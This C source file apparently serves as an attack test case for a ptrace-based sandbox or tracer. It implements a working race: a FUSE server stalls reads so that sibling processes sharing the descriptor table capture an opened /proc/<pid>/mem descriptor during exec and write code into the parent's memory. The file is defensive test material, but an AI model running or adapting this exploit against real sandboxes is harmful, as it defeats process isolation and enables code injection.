/*
 * Attack: a sibling asleep in the kernel when an open starts copies the
 * descriptor table after the open installed its descriptor and before the
 * tracer closes it at the exit stop.
 *
 * In a private mount namespace the program mounts a FUSE filesystem served
 * by a forked child process: "mem", a symlink to /proc/<program>/mem, and
 * files "a0".."a7" of one page each holding "capture". The program maps
 * each file read-only (nothing read yet) and makes CHILDREN processes that
 * share its descriptor table (clone CLONE_FILES). Child i execs the
 * program again with argv[1] taken from file i's page: the copy faults,
 * and the server keeps the READ unanswered, so the child sleeps in the
 * kernel (killable only: a ptrace interrupt does not stop it). Then main
 * opens <mount>/mem O_RDWR. When the server has answered that open's
 * READLINK it answers the children's READs one by one, a little later each
 * time: each child's exec goes on, unshares the (still shared) descriptor
 * table in begin_new_exec, keeping a copy of the new mem descriptor when
 * it was installed by then, and the new image ("capture FD ADDR") pwrites
 * TW_CODE over main's tw_patch_target through it and exits 0. Main waits
 * for every child and calls tw_patch_target when one succeeded
 * (RAN asleep_sibling_call). Main never writes through its own descriptor.
 * Needs root (mount namespaces, FUSE); otherwise `STEP fuse_mount ...`.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#include "tw_fuse.h"

#define LINK_NODE 2
#define FILE_NODE 10 /* + i */
#define CHILDREN 8
#define WORD "capture"

TW_DEFINE_PATCH_TARGET;

static char target[64];
static int seen_fd; /* the server's end of the pipe `seen` */
/* How long after the READLINK answer child i's READ is answered (µs). */
static const int delays[CHILDREN] = {0, 100, 300, 700, 1500, 3000, 6000, 12000};

static void fill_attr(struct fuse_attr *attr, uint64_t node)
{
	memset(attr, 0, sizeof(*attr));
	attr->ino = node;
	attr->blksize = 4096;
	if (node == FUSE_ROOT_ID) {
		attr->mode = S_IFDIR | 0755;
		attr->nlink = 2;
	} else if (node == LINK_NODE) {
		attr->mode = S_IFLNK | 0777;
		attr->nlink = 1;
		attr->size = strlen(target);
	} else {
		attr->mode = S_IFREG | 0644;
		attr->nlink = 1;
		attr->size = 4096;
	}
}

/* The server's part (a child process). READs of the files are kept until
 * the READLINK of "mem"; each READ kept is reported as one byte on seen_fd. */
static int handle(struct fuse_in_header *in, void *arg)
{
	static uint64_t kept[CHILDREN];
	static int nkept;

	switch (in->opcode) {
	case FUSE_LOOKUP: {
		struct fuse_entry_out entry = {0};
		const char *name = arg;

		if (in->nodeid != FUSE_ROOT_ID) {
			tw_fuse_reply(in->unique, -ENOENT, NULL, 0);
		} else if (strcmp(name, "mem") == 0) {
			entry.nodeid = LINK_NODE;
		} else if (name[0] == 'a' && name[1] >= '0' && name[1] < '0' + CHILDREN && !name[2]) {
			entry.nodeid = FILE_NODE + (uint64_t)(name[1] - '0');
		}
		if (in->nodeid != FUSE_ROOT_ID)
			break;
		if (!entry.nodeid) {
			tw_fuse_reply(in->unique, -ENOENT, NULL, 0);
			break;
		}
		fill_attr(&entry.attr, entry.nodeid);
		tw_fuse_reply(in->unique, 0, &entry, sizeof(entry));
		break;
	}
	case FUSE_GETATTR:
		tw_fuse_reply_attr(in, fill_attr, 0);
		break;
	case FUSE_OPEN:
		tw_fuse_reply_open(in->unique, 0, 0);
		break;
	case FUSE_READ:
		if (nkept < CHILDREN) {
			kept[nkept++] = in->unique;
			if (write(seen_fd, "r", 1) != 1)
				_exit(5);
		}
		break;
	case FUSE_READLINK: {
		static char page[4096];
		struct timespec ts;

		tw_fuse_reply(in->unique, 0, target, strlen(target));
		memcpy(page, WORD, sizeof(WORD));
		for (int i = 0; i < nkept; i++) {
			ts.tv_sec = 0;
			ts.tv_nsec = (long)(delays[i] - (i ? delays[i - 1] : 0)) * 1000L;
			nanosleep(&ts, NULL);
			tw_fuse_reply(kept[i], 0, page, sizeof(page));
		}
		nkept = 0;
		break;
	}
	case FUSE_FLUSH:
	case FUSE_RELEASE:
		tw_fuse_reply(in->unique, 0, NULL, 0);
		break;
	default:
		return 0;
	}
	return 1;
}

/* The exec'd image of a child: write the code through the copied descriptor. */
static int capture(const char *fd_arg, const char *addr_arg)
{
	int fd = atoi(fd_arg);
	unsigned long addr = strtoul(addr_arg, NULL, 16);
	char link[64], path[64];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, link, sizeof(link) - 1);
	if (n <= 4 || memcmp(link + n - 4, "/mem", 4) != 0)
		return 1;
	return pwrite(fd, TW_CODE, sizeof(TW_CODE), (off_t)addr) == (ssize_t)sizeof(TW_CODE) ? 0 : 1;
}

int main(int argc, char **argv)
{
	char dir[] = "/tmp/tw_asleep_XXXXXX";
	char path[256], exe[256], fd_arg[16], addr_arg[32];
	const char *pages[CHILDREN];
	pid_t server, children[CHILDREN];
	int seen[2], rc, fd, won = 0;
	ssize_t len;

	if (argc == 4 && strcmp(argv[1], WORD) == 0)
		return capture(argv[2], argv[3]);
	tw_init();
	len = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	if (len < 0 || !mkdtemp(dir) || pipe2(seen, O_CLOEXEC) != 0)
		return 1;
	exe[len] = 0;
	snprintf(target, sizeof(target), "/proc/%d/mem", (int)getpid());
	rc = tw_fuse_mount(dir);
	if (rc != 0)
		return tw_done();
	server = fork();
	if (server == 0) {
		seen_fd = seen[1];
		tw_fuse_serve(handle);
		_exit(0);
	}
	close(tw_fuse_fd);
	close(seen[1]);
	for (int i = 0; i < CHILDREN; i++) {
		snprintf(path, sizeof(path), "%s/a%d", dir, i);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		pages[i] = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
		if (pages[i] == MAP_FAILED)
			return 1;
		madvise((void *)pages[i], 4096, MADV_RANDOM);
		close(fd);
	}
	fd = dup(0);
	close(fd); /* the lowest free descriptor: the open's */
	snprintf(fd_arg, sizeof(fd_arg), "%d", fd);
	snprintf(addr_arg, sizeof(addr_arg), "%lx", (unsigned long)(uintptr_t)tw_patch_target);
	for (int i = 0; i < CHILDREN; i++) {
		children[i] = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
		if (children[i] == 0) {
			char *args[] = {exe, (char *)pages[i], fd_arg, addr_arg, NULL};

			execv(exe, args);
			_exit(2);
		}
	}
	/* Every child asleep in its READ before the open starts. */
	for (int i = 0; i < CHILDREN; i++) {
		char byte;

		if (read(seen[0], &byte, 1) != 1)
			return 1;
	}
	usleep(20000);
	snprintf(path, sizeof(path), "%s/mem", dir);
	fd = open(path, O_RDWR);
	tw_step("asleep_open", "open", fd, errno);
	for (int i = 0; i < CHILDREN; i++) {
		int status = 0;

		if (waitpid(children[i], &status, 0) == children[i] && WIFEXITED(status) &&
		    WEXITSTATUS(status) == 0)
			won++;
	}
	tw_emit("COUNT %d", won);
	if (won)
		tw_run("asleep_sibling_call", (const void *)tw_patch_target);
	if (fd >= 0)
		close(fd);
	umount2(dir, MNT_DETACH);
	kill(server, SIGKILL);
	waitpid(server, NULL, 0);
	rmdir(dir);
	return tw_done();
}
